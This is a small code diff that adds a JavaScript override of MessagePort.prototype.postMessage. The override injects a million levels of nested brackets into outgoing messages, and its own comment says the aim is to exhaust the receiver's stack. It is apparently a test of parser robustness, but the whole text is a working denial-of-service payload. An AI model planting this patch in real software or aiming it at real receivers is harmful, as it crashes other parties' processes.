@@ -1,0 +1,6 @@
+// Tries to exhaust the stack of whoever reads the message: with a million brackets.
+const send = MessagePort.prototype.postMessage;
+MessagePort.prototype.postMessage = function (message) {
+  const deep = "[".repeat(1_000_000) + "]".repeat(1_000_000);
+  send.call(this, message.replace('"kind":', `"deep":${deep},"kind":`).replace('"tags":{}', `"tags":${deep}`));
+};
